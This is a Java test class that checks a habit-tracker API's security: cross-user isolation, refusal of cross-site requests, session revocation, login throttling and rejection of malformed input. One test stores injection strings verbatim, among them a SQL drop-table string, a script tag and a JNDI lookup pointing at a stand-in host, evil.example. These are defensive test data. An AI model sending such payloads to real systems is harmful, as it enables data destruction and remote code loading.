package org.habittracker.adapters.lambda.scenarios;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import org.habittracker.adapters.lambda.support.Api;
import org.habittracker.adapters.lambda.support.ApiResponse;
import org.habittracker.adapters.lambda.support.Events;

/**
 * Security behaviour through the handler, run over the in-memory ports ({@code SecurityTest}) and over
 * real PostgreSQL and Redis ({@code SecurityIT}). Every response is kept and none may be a 500.
 */
public abstract class SecurityScenarios {

    private final List<ApiResponse> responses = new ArrayList<>();
    private String ada;
    private String bob;
    private String adasHabit;
    private String adasPause;
    protected String suffix = java.util.UUID.randomUUID().toString().substring(0, 8);

    protected abstract Api api();

    protected ApiResponse send(Events.Builder request) {
        ApiResponse response = api().send(request);
        responses.add(response);
        return response;
    }

    @BeforeEach
    void twoUsers() {
        ada = api().register("ada" + suffix);
        bob = api().register("bob" + suffix);
        adasHabit = api().createHabit(ada, "Ada's");
        send(Events.request("PUT", "/api/habits/" + adasHabit + "/checkins/2026-11-20").session(ada)
                .json("{\"status\":\"DONE\"}"));
        adasPause = send(Events.request("POST", "/api/pauses").session(ada)
                .json("{\"habitId\":\"" + adasHabit + "\",\"from\":\"2026-11-01\",\"to\":\"2026-11-02\"}")).json()
                .get("id").asText();
    }

    @AfterEach
    void neverAServerError() {
        assertThat(responses).allSatisfy(r -> assertThat(r.status()).as(r.toString()).isLessThan(500));
    }

    @Test
    @DisplayName("another user gets 404 for each of Ada's habits on every route, and changes nothing")
    void otherUsersHabitsAreNotFound() {
        String h = "/api/habits/" + adasHabit;
        List<Events.Builder> requests = List.of(
                Events.request("GET", h), Events.request("PATCH", h).json("{\"name\":\"Mine now\"}"),
                Events.request("DELETE", h), Events.request("POST", h + "/archive"),
                Events.request("POST", h + "/unarchive"),
                Events.request("PUT", h + "/checkins/2026-11-21").json("{\"status\":\"DONE\"}"),
                Events.request("DELETE", h + "/checkins/2026-11-20"),
                Events.request("GET", h + "/checkins?from=2026-11-01&to=2026-11-22"), Events.request("GET", h + "/stats"),
                Events.request("POST", "/api/pauses").json("{\"habitId\":\"" + adasHabit + "\",\"from\":\"2026-11-05\",\"to\":\"2026-11-06\"}"),
                Events.request("DELETE", "/api/pauses/" + adasPause));

        for (Events.Builder request : requests) {
            ApiResponse response = send(request.session(bob));
            assertThat(response.status()).as(response.toString()).isEqualTo(404);
        }

        ApiResponse still = send(Events.request("GET", h).session(ada));
        assertThat(still.json().get("name").asText()).isEqualTo("Ada's");
        assertThat(still.json().get("archived").asBoolean()).isFalse();
        assertThat(send(Events.request("GET", h + "/checkins?from=2026-11-01&to=2026-11-22").session(ada)).json()
                .get("checkins")).hasSize(1);
        assertThat(send(Events.request("GET", "/api/pauses").session(ada)).json().get("pauses")).hasSize(1);
    }

    @Test
    @DisplayName("reordering with another user's habit id does not touch that habit")
    void reorderForeignHabit() {
        String bobs = api().createHabit(bob, "Bob's");

        ApiResponse response = send(Events.request("PUT", "/api/habits/order").session(bob)
                .json("{\"order\":[\"" + adasHabit + "\",\"" + bobs + "\"]}"));

        assertThat(response.status()).isIn(200, 400, 404);
        assertThat(send(Events.request("GET", "/api/habits").session(ada)).json().get("habits").findValuesAsText("name"))
                .containsExactly("Ada's");
    }

    @Test
    @DisplayName("a cross-site Origin is refused with 403 on every state-changing route, and nothing changes")
    void crossSiteRefused() {
        String h = "/api/habits/" + adasHabit;
        List<Events.Builder> requests = List.of(
                Events.request("POST", "/api/habits").json("{\"name\":\"x\",\"color\":\"#000000\",\"schedule\":{\"type\":\"daily\"}}"),
                Events.request("PATCH", h).json("{\"name\":\"Hacked\"}"), Events.request("DELETE", h),
                Events.request("POST", h + "/archive"), Events.request("PUT", h + "/checkins/2026-11-21").json("{\"status\":\"DONE\"}"),
                Events.request("DELETE", "/api/pauses/" + adasPause), Events.request("PATCH", "/api/me").json("{\"dayStartHour\":2}"),
                Events.request("DELETE", "/api/me").json("{\"password\":\"correct horse battery\"}"),
                Events.request("POST", "/api/auth/logout"), Events.request("POST", "/api/import").json("{}"));

        for (Events.Builder request : requests) {
            ApiResponse response = send(request.session(ada).header("origin", "https://evil.example"));
            assertThat(response.status()).as(response.toString()).isEqualTo(403);
        }
        ApiResponse noOrigin = send(Events.request("DELETE", h).session(ada).withoutHeader("origin"));
        assertThat(noOrigin.status()).isEqualTo(403);

        assertThat(send(Events.request("GET", h).session(ada)).json().get("name").asText()).isEqualTo("Ada's");
        assertThat(send(Events.request("GET", "/api/me").session(ada)).status()).isEqualTo(200);
    }

    @Test
    @DisplayName("Sec-Fetch-Site: same-origin stands in for a missing Origin")
    void fetchMetadataSameOrigin() {
        ApiResponse response = send(Events.request("POST", "/api/habits/" + adasHabit + "/archive").session(ada)
                .withoutHeader("origin").header("sec-fetch-site", "same-origin"));

        assertThat(response.status()).isEqualTo(200);
    }

    @Test
    @DisplayName("log-out revokes the session at once: the old cookie is a 401 everywhere")
    void revokedSession() {
        send(Events.request("POST", "/api/auth/logout").session(ada));

        assertThat(send(Events.request("GET", "/api/habits").session(ada)).status()).isEqualTo(401);
        assertThat(send(Events.request("GET", "/api/habits/" + adasHabit).session(ada)).status()).isEqualTo(401);
        assertThat(send(Events.request("GET", "/api/auth/check").session(ada)).json().get("authenticated").asBoolean())
                .isFalse();
    }

    @Test
    @DisplayName("garbage credentials are a 401: a made-up cookie, an overlong one, an unknown bearer token")
    void garbageCredentials() {
        assertThat(send(Events.request("GET", "/api/habits").session("made-up")).status()).isEqualTo(401);
        assertThat(send(Events.request("GET", "/api/habits").session("x".repeat(5000))).status()).isEqualTo(401);
        assertThat(send(Events.request("GET", "/api/habits").header("authorization", "Bearer nope")).status())
                .isEqualTo(401);
    }

    @Test
    @DisplayName("repeated failed log-ins are throttled with 429 and Retry-After")
    void throttling() {
        ApiResponse last = null;
        for (int i = 0; i < 12 && (last == null || last.status() != 429); i++) {
            last = send(Events.request("POST", "/api/auth/login")
                    .json("{\"username\":\"ada" + suffix + "\",\"password\":\"wrong password\"}"));
            assertThat(last.status()).isIn(401, 429);
        }
        assertThat(last.status()).isEqualTo(429);
        assertThat(last.header("Retry-After")).isPresent();
    }

    @Test
    @DisplayName("injection strings are stored and returned literally")
    void injectionStringsLiteral() {
        String name = "'; DROP TABLE habits; -- <script>alert(1)</script>";
        String note = "${jndi:ldap://evil.example/a} \\u0000 %s %n {{7*7}} \" OR 1=1 --";
        ApiResponse created = send(Events.request("POST", "/api/habits").session(ada).json(
                "{\"name\":" + quote(name) + ",\"color\":\"#000000\",\"schedule\":{\"type\":\"daily\"}}"));
        String id = created.json().get("id").asText();
        send(Events.request("PUT", "/api/habits/" + id + "/checkins/2026-11-21").session(ada)
                .json("{\"status\":\"DONE\",\"note\":" + quote(note) + "}"));

        assertThat(send(Events.request("GET", "/api/habits/" + id).session(ada)).json().get("name").asText()).isEqualTo(name);
        assertThat(send(Events.request("GET", "/api/habits/" + id + "/checkins?from=2026-11-21&to=2026-11-21").session(ada))
                .json().get("checkins").get(0).get("note").asText()).isEqualTo(note);
        assertThat(send(Events.request("GET", "/api/habits").session(ada)).json().get("habits")).hasSize(2);
    }

    @Test
    @DisplayName("malformed, oversized and wrongly typed bodies, bad dates and unknown fields are all 4xx")
    void badInputIsNeverAServerError() {
        String h = "/api/habits/" + adasHabit;
        List<Events.Builder> requests = List.of(
                Events.request("POST", "/api/habits").json(""), Events.request("POST", "/api/habits").json("null"),
                Events.request("POST", "/api/habits").json("[]"), Events.request("POST", "/api/habits").json("42"),
                Events.request("POST", "/api/habits").json("{\"name\":"),
                Events.request("POST", "/api/habits").json("{\"name\":\"a\",\"name\":\"b\"}"),
                Events.request("POST", "/api/habits").json("{\"name\":{},\"color\":[],\"schedule\":\"daily\"}"),
                Events.request("POST", "/api/habits").json("{\"name\":\"x\",\"color\":\"#000000\",\"schedule\":{\"type\":\"weekdays\",\"days\":[]}}"),
                Events.request("POST", "/api/habits").json("{\"name\":\"x\",\"color\":\"#000000\",\"schedule\":{\"type\":\"weekdays\",\"days\":null}}"),
                Events.request("POST", "/api/habits").json("{\"name\":\"x\",\"color\":\"#000000\",\"schedule\":{\"type\":\"timesPerWindow\",\"times\":1e400,\"days\":7}}"),
                Events.request("POST", "/api/habits").json("{\"name\":\"" + "n".repeat(101) + "\",\"color\":\"#000000\",\"schedule\":{\"type\":\"daily\"}}"),
                Events.request("POST", "/api/habits").json("{\"name\":\"x\",\"color\":\"#000000\",\"schedule\":{\"type\":\"daily\"},\"goal\":{\"type\":\"measured\",\"target\":-5}}"),
                Events.request("POST", "/api/habits").json("{\"name\":\"x\",\"color\":\"#000000\",\"schedule\":{\"type\":\"daily\"},\"startDate\":\"1999-12-31\"}"),
                Events.request("POST", "/api/habits").json("{\"name\":\"x\",\"color\":\"#000000\",\"schedule\":{\"type\":\"daily\"},\"extra\":1}"),
                Events.request("POST", "/api/habits").json("{\"a\":" + "[".repeat(3000) + "]".repeat(3000) + "}"),
                Events.request("POST", "/api/habits").json("{\"name\":\"" + "x".repeat(70_000) + "\"}"),
                Events.request("PATCH", h).json("{\"startDate\":\"2026-02-30\"}"),
                Events.request("PATCH", h).json("{\"color\":null}"),
                Events.request("PUT", h + "/checkins/20261121").json("{\"status\":\"DONE\"}"),
                Events.request("PUT", h + "/checkins/2026-11-21").json("{\"status\":\"DONE\",\"amount\":\"lots\"}"),
                Events.request("PUT", h + "/checkins/2026-11-21").json("{\"status\":\"DONE\",\"note\":\"" + "n".repeat(501) + "\"}"),
                Events.request("PUT", h + "/checkins/9999-12-31").json("{\"status\":\"DONE\"}"),
                Events.request("GET", h + "/checkins?from=2026-11-22&to=2026-11-01"),
                Events.request("GET", h + "/checkins?from=%ZZ&to=2026-11-01"),
                Events.request("POST", "/api/pauses").json("{\"from\":\"2026-11-01\",\"to\":\"2030-11-01\"}"),
                Events.request("POST", "/api/pauses").json("{\"habitId\":\"not-a-uuid\",\"from\":\"2026-11-01\",\"to\":\"2026-11-02\"}"),
                Events.request("PATCH", "/api/me").json("{\"timeZone\":\"Not/AZone\"}"),
                Events.request("PATCH", "/api/me").json("{\"weekStart\":\"SOMEDAY\"}"),
                Events.request("DELETE", "/api/me").json("{}"),
                Events.request("PUT", "/api/habits/order").json("{\"order\":null}"),
                Events.request("POST", "/api/import").json("{\"formatVersion\":99}"),
                Events.request("POST", "/api/import").json("{\"formatVersion\":1,\"settings\":{\"timeZone\":\"UTC\"},\"habits\":[null]}"),
                Events.request("POST", "/api/habits").header("content-type", "application/x-www-form-urlencoded").rawBody("name=x"));

        for (Events.Builder request : requests) {
            ApiResponse response = send(request.session(ada));
            assertThat(response.status()).as(response.toString()).isBetween(400, 499);
            assertThat(response.body()).doesNotContain("Exception").doesNotContain("at org.");
        }
    }

    private static String quote(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
